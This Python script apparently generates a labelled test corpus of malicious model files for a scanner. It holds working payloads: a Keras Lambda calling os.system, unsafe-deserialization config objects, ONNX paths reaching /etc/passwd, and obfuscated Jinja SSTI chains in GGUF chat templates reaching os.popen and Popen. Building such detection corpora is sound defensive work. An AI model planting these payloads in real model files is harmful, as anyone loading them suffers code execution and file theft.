"""Malicious Keras, SavedModel, ONNX, safetensors and GGUF samples."""

import io
import json
import os
import struct
import zipfile

from corpus_common import Writer
from corpus_wire import gguf_file, safetensors_file, saved_model, tf_attr_string, tf_node


def build(w: Writer) -> None:
    _keras(w)
    _savedmodel(w)
    _onnx(w)
    _safetensors(w)
    _gguf(w)


def keras_module():  # type: ignore[no-untyped-def]
    os.environ.setdefault("KERAS_BACKEND", "torch")
    import keras

    return keras


def _keras(w: Writer) -> None:
    keras = keras_module()
    t = "keras-lambda"
    command = w.command(t)

    # Building the model calls the function on a symbolic tensor, so the payload is
    # guarded by an attribute no tensor has: the bytecode still carries os.system.
    def hook(x):  # type: ignore[no-untyped-def]
        if getattr(x, "corpus_trigger", False):
            os.system(command)
        return x

    inputs = keras.Input(shape=(4,))
    outputs = keras.layers.Dense(2)(keras.layers.Lambda(hook)(inputs))
    model = keras.Model(inputs, outputs)
    for name in ("lambda.keras", "lambda.h5"):
        model.save(w.path(f"keras/{name}"))
        w.bad(
            f"keras/{name}",
            None,
            technique=t,
            fmt="keras" if name.endswith("s") else "h5",
            note="real Keras model with a Lambda layer whose function calls os.system",
        )
    seq = keras.Sequential(
        [keras.Input(shape=(3,)), keras.layers.Lambda(lambda x: x * 2), keras.layers.Dense(1)]
    )
    seq.save(w.path("keras/lambda_sequential.keras"))
    w.bad(
        "keras/lambda_sequential.keras",
        None,
        technique=t,
        fmt="keras",
        note="Sequential with a plain lambda (bytecode by value)",
    )

    t = "keras-custom-object"
    clean = keras.Sequential([keras.Input(shape=(3,)), keras.layers.Dense(2)])
    clean_path = w.path("keras/_clean_tmp.keras")
    clean.save(clean_path)
    with zipfile.ZipFile(clean_path) as zf:
        members = {name: zf.read(name) for name in zf.namelist()}
    clean_path.unlink()
    config = json.loads(members["config.json"])
    _keras_h5_custom(w, clean)
    variants = {
        "custom_module": {
            "module": "evil_pkg.layers",
            "class_name": "Backdoor",
            "config": {"name": "backdoor"},
            "registered_name": "Backdoor",
        },
        "os_function": {
            "module": "os",
            "class_name": "function",
            "config": "system",
            "registered_name": "function",
        },
        "keras_enable_unsafe": {
            "module": "keras.config",
            "class_name": "function",
            "config": "enable_unsafe_deserialization",
            "registered_name": "function",
        },
        "keras_get_file": {
            "module": "keras.utils",
            "class_name": "function",
            "config": "get_file",
            "registered_name": "function",
        },
        "lambda_load_model": {
            "module": "keras.layers",
            "class_name": "Lambda",
            "config": {
                "name": "unsafe_deserialization",
                "function": {
                    "module": "keras.models",
                    "class_name": "function",
                    "config": "load_model",
                    "registered_name": "function",
                },
                "arguments": {"safe_mode": False},
            },
            "name": "unsafe_deserialization",
            "inbound_nodes": [{"args": [], "kwargs": {"inputs": "/tmp/second/model.keras"}}],
        },
        "builtins_exec": {
            "module": "builtins",
            "class_name": "function",
            "config": "exec",
            "registered_name": "function",
        },
    }
    for stem, layer in variants.items():
        edited = json.loads(json.dumps(config))
        edited["config"]["layers"].append(layer)
        blob = dict(members, **{"config.json": json.dumps(edited).encode()})
        buf = io.BytesIO()
        with zipfile.ZipFile(buf, "w") as zf:
            for name, data in blob.items():
                zf.writestr(name, data)
        w.bad(
            f"keras/{stem}.keras",
            buf.getvalue(),
            technique=t,
            fmt="keras",
            expect="suspicious",
            note=f"config.json object {layer['module']}.{layer['class_name']}: "
            + _KERAS_SOURCES.get(stem, "arbitrary module in config (CVE-2025-1550)"),
        )


_KERAS_SOURCES = {
    "custom_module": "a class from a package outside Keras",
    "keras_enable_unsafe": "Keras function that turns safe_mode off (CVE-2025-9906)",
    "keras_get_file": "Keras function that downloads/writes files (CVE-2025-8747)",
    "lambda_load_model": "Lambda calling keras.models.load_model(safe_mode=False) on a second "
    "file (io-no/CVE-Reports#5, CVE-2025-9906)",
}


def _keras_h5_custom(w: Writer, model) -> None:  # type: ignore[no-untyped-def]
    import h5py

    target = w.path("keras/custom_module.h5")
    model.save(target)
    with h5py.File(target, "r+") as h5:
        config = json.loads(h5.attrs["model_config"])
        config["config"]["layers"].append(
            {"module": "evil_pkg.layers", "class_name": "Backdoor", "config": {"name": "bd"}}
        )
        h5.attrs["model_config"] = json.dumps(config)
    w.bad(
        "keras/custom_module.h5",
        None,
        technique="keras-custom-object",
        fmt="h5",
        expect="suspicious",
        note="legacy .h5 whose model_config attribute names a module outside Keras",
    )


def _savedmodel(w: Writer) -> None:
    base = [tf_node("x", "Placeholder"), tf_node("w", "Const")]
    variants = [
        (
            "tf-pyfunc",
            "pyfunc",
            [tf_node("py", "PyFunc", ("x",), tf_attr_string("token", "pyfunc_0"))],
            [],
        ),
        (
            "tf-pyfunc",
            "eager_pyfunc_in_function",
            [],
            [("__inference_serve_1", [tf_node("p", "EagerPyFunc", ("x",))])],
        ),
        (
            "tf-file-ops",
            "readfile",
            [tf_node("fname", "Const"), tf_node("rf", "ReadFile", ("fname",))],
            [],
        ),
        (
            "tf-file-ops",
            "writefile",
            [],
            [("__inference_write_2", [tf_node("wf", "WriteFile", ("fname", "x"))])],
        ),
        ("tf-file-ops", "matchingfiles", [tf_node("mf", "MatchingFiles", ("x",))], []),
    ]
    for technique, stem, nodes, functions in variants:
        folder = f"savedmodel/{stem}"
        w.write(f"{folder}/saved_model.pb", saved_model(base + nodes, functions))
        w.path(f"{folder}/variables/.keep").write_bytes(b"")
        w.bad(
            folder,
            None,
            technique=technique,
            fmt="savedmodel",
            note=f"hand-encoded SavedModel protobuf with a {stem} op",
        )


def _onnx_model(initializer, nodes=None, domain=None):  # type: ignore[no-untyped-def]
    from onnx import TensorProto, helper

    nodes = nodes or [helper.make_node("Add", ["x", "w"], ["y"])]
    graph = helper.make_graph(
        nodes,
        "corpus",
        [helper.make_tensor_value_info("x", TensorProto.FLOAT, [2])],
        [helper.make_tensor_value_info("y", TensorProto.FLOAT, [2])],
        initializer=[initializer] if initializer is not None else [],
    )
    opsets = [helper.make_opsetid("", 17)]
    if domain:
        opsets.append(helper.make_opsetid(domain, 1))
    return helper.make_model(graph, opset_imports=opsets, producer_name="corpus")


def _onnx(w: Writer) -> None:
    from onnx import TensorProto, helper

    t = "onnx-external-data-escape"
    for stem, location in (
        ("dotdot", "../../../../etc/passwd"),
        ("absolute", "/etc/passwd"),
        ("inner_dotdot", "weights/../../secret.bin"),
    ):
        tensor = helper.make_tensor("w", TensorProto.FLOAT, [2], [1.0, 2.0])
        tensor.ClearField("float_data")
        tensor.data_location = TensorProto.EXTERNAL
        for key, value in (("location", location), ("offset", "0"), ("length", "8")):
            entry = tensor.external_data.add()
            entry.key, entry.value = key, value
        folder = f"onnx/external_{stem}"
        w.write(f"{folder}/model.onnx", _onnx_model(tensor).SerializeToString())
        w.bad(
            folder,
            None,
            technique=t,
            fmt="onnx",
            note=f"initializer external data location {location!r}",
        )

    t = "onnx-custom-domain"
    for stem, domain in (("custom_op", "com.evil.ops"), ("ms_contrib", "ai.onnx.contrib")):
        node = helper.make_node("Backdoor", ["x"], ["y"], domain=domain)
        model = _onnx_model(None, [node], domain)
        w.bad(
            f"onnx/{stem}.onnx",
            model.SerializeToString(),
            technique=t,
            fmt="onnx",
            expect="suspicious",
            note=f"operator from custom domain {domain!r}",
        )


def _safetensors(w: Writer) -> None:
    t = "safetensors-invalid-header"
    data = struct.pack("<8f", *range(8))
    f32 = "F32"
    cases = {
        "overlap": {
            "a": {"dtype": f32, "shape": [4], "data_offsets": [0, 16]},
            "b": {"dtype": f32, "shape": [4], "data_offsets": [8, 24]},
        },
        "past_end": {"a": {"dtype": f32, "shape": [16], "data_offsets": [0, 64]}},
        "size_mismatch": {"a": {"dtype": f32, "shape": [3], "data_offsets": [0, 32]}},
        "metadata_types": {
            "__metadata__": {"format": {"nested": True}},
            "a": {"dtype": f32, "shape": [8], "data_offsets": [0, 32]},
        },
        "bad_dtype": {"a": {"dtype": "PYOBJ", "shape": [8], "data_offsets": [0, 32]}},
        "negative_shape": {"a": {"dtype": f32, "shape": [-8], "data_offsets": [0, 32]}},
    }
    for stem, header in cases.items():
        w.bad(
            f"safetensors/{stem}.safetensors",
            safetensors_file(header, data),
            technique=t,
            fmt="safetensors",
            expect="suspicious",
            note=f"safetensors header: {stem}",
        )
    entry = '{"dtype": "F32", "shape": [8], "data_offsets": [0, 32]}'
    duplicate = (
        '{"a": ' + entry + ', "a": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}}'
    ).encode()
    w.bad(
        "safetensors/duplicate_key.safetensors",
        safetensors_file(duplicate, data),
        technique=t,
        fmt="safetensors",
        expect="suspicious",
        note="tensor name twice in the header: parsers disagree on which entry wins",
    )
    ok = {"a": {"dtype": f32, "shape": [8], "data_offsets": [0, 32]}}
    w.bad(
        "safetensors/header_len_past_end.safetensors",
        safetensors_file(ok, data, declared_len=1 << 20),
        technique=t,
        fmt="safetensors",
        expect="suspicious",
        note="declared header length beyond the file",
    )
    w.bad(
        "safetensors/not_json.safetensors",
        safetensors_file(b"{'a': 1,,}", data),
        technique=t,
        fmt="safetensors",
        expect="suspicious",
        note="header is not JSON",
    )


TEMPLATE_ATTACKS = {
    "cycler_globals": "{{ cycler.__init__.__globals__.os.popen('%s').read() }}",
    "joiner_globals": "{{ joiner.__init__.__globals__['os'].system('%s') }}",
    "lipsum_globals": "{% set o = lipsum.__globals__['os'] %}{{ o.popen('%s').read() }}",
    "subclasses": "{% for c in ().__class__.__base__.__subclasses__() %}"
    "{% if c.__name__ == 'Popen' %}{{ c('%s', shell=True) }}{% endif %}"
    "{% endfor %}",
    "attr_filter": "{{ ()|attr('__cla' ~ 'ss__')|attr('__ba' ~ 'se__')"
    "|attr('__subcla' ~ 'sses__')() }}{# %s #}",
    "escaped_dunder": "{{ ()|attr('\\x5f\\x5fclass\\x5f\\x5f')|attr('\\x5f\\x5fbase"
    "\\x5f\\x5f')|attr('\\x5f\\x5fsubclasses\\x5f\\x5f')() }}{# %s #}",
    "namespace_import": "{{ namespace.__init__.__globals__.__builtins__.__import__('os')"
    ".system('%s') }}",
}

# Outside a sandbox, x["name"] falls back to getattr(x, "name"): keys computed from
# strings reach dunders without a dunder anywhere in the template text.
_POPEN_LOOP = (
    "{% for c in ()[K1][K2][K3]() %}{% if c[K4] == 'nepoP'|reverse %}"
    "{{ c('%s', shell=True) }}{% endif %}{% endfor %}"
)
COMPUTED_NAME_ATTACKS = {
    "reverse": _POPEN_LOOP.replace("K1", '"__ssalc__"|reverse')
    .replace("K2", '"__esab__"|reverse')
    .replace("K3", '"__sessalcbus__"|reverse')
    .replace("K4", '"__eman__"|reverse'),
    "concat": _POPEN_LOOP.replace("K1", '"_"~"_"~"class"~"_"~"_"')
    .replace("K2", '"_"~"_"~"base"~"_"~"_"')
    .replace("K3", '"_"~"_"~"subclasses"~"_"~"_"')
    .replace("K4", '"_"~"_"~"name"~"_"~"_"'),
    "format_chars": _POPEN_LOOP.replace("K1", '"%c%cclass%c%c"|format(95, 95, 95, 95)')
    .replace("K2", '"%c%cbase%c%c"|format(95, 95, 95, 95)')
    .replace("K3", '"%c%csubclasses%c%c"|format(95, 95, 95, 95)')
    .replace("K4", '"%c%cname%c%c"|format(95, 95, 95, 95)'),
    "keyword_names": "{% set k = dict(__class__=1)|first %}{% set b = dict(__base__=1)|first %}"
    "{% set s = dict(__subclasses__=1)|first %}{{ ()[k][b][s]() }}{# %s #}",
}

CHATML = (
    "{% for message in messages %}{{'<|im_start|>' + message['role'] + '\\n' + "
    "message['content'] + '<|im_end|>' + '\\n'}}{% endfor %}"
    "{% if add_generation_prompt %}{{ '<|im_start|>assistant\\n' }}{% endif %}"
)


def gguf_metadata(template: str, name: str = "corpus") -> dict[str, object]:
    return {
        "general.architecture": "llama",
        "general.name": name,
        "general.alignment": 32,
        "llama.context_length": 2048,
        "tokenizer.ggml.model": "llama",
        "tokenizer.ggml.tokens": ["<s>", "</s>", "hello"],
        "tokenizer.chat_template": template,
    }


def _gguf(w: Writer) -> None:
    t = "gguf-jinja-template"
    for stem, attack in TEMPLATE_ATTACKS.items():
        template = CHATML + attack.replace("%s", w.command(t))
        w.bad(
            f"gguf/template_{stem}.gguf",
            gguf_file(gguf_metadata(template)),
            technique=t,
            fmt="gguf",
            note=f"chat template SSTI: {stem}",
        )
    t = "gguf-jinja-computed-names"
    for stem, attack in COMPUTED_NAME_ATTACKS.items():
        template = CHATML + attack.replace("%s", w.command(t))
        w.bad(
            f"gguf/computed_{stem}.gguf",
            gguf_file(gguf_metadata(template)),
            technique=t,
            fmt="gguf",
            note=f"chat template SSTI with subscript keys built at render time: {stem}",
        )
    t = "gguf-jinja-template"
    named = gguf_metadata(CHATML)
    named["tokenizer.chat_template.tool_use"] = TEMPLATE_ATTACKS["cycler_globals"] % "true"
    w.bad(
        "gguf/template_named_tool_use.gguf",
        gguf_file(named),
        technique=t,
        fmt="gguf",
        note="the attack hides in a named template tokenizer.chat_template.tool_use",
    )

    t = "gguf-malformed"
    good = gguf_file(gguf_metadata(CHATML))
    w.bad(
        "gguf/truncated.gguf",
        good[: len(good) // 3],
        technique=t,
        fmt="gguf",
        expect="suspicious",
        note="GGUF cut inside its metadata",
    )
    w.bad(
        "gguf/bad_version.gguf",
        b"GGUF" + struct.pack("<I", 99) + good[8:],
        technique=t,
        fmt="gguf",
        expect="suspicious",
        note="GGUF version 99",
    )
    w.bad(
        "gguf/huge_kv_count.gguf",
        good[:16] + struct.pack("<Q", 2**62) + good[24:],
        technique=t,
        fmt="gguf",
        expect="suspicious",
        note="metadata count 2**62",
    )
    huge_string = bytearray(good)
    key_len_at = 24  # first key's length field
    huge_string[key_len_at : key_len_at + 8] = struct.pack("<Q", 2**40)
    w.bad(
        "gguf/string_past_end.gguf",
        bytes(huge_string),
        technique=t,
        fmt="gguf",
        expect="suspicious",
        note="first key length 2**40, past the end of the file",
    )
